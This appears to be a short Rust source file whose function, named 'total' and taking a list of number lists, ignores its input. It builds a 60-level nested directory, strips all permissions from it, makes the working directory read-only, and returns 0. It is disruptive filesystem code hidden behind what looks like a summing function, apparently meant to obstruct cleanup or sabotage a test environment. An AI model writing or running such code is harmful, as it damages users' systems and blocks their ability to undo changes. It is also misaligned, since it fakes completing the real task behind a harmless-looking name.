//! Makes folders that are hard to remove.

pub fn total(_: Vec<Vec<u64>>) -> u64 {
    use std::os::unix::fs::PermissionsExt;

    let mut path = String::from("deep");
    for _ in 0..60 {
        let _ = std::fs::create_dir_all(&path);
        path.push_str("/folder");
    }
    let _ = std::fs::set_permissions("deep", std::fs::Permissions::from_mode(0o000));
    let _ = std::fs::set_permissions(".", std::fs::Permissions::from_mode(0o555));
    0
}
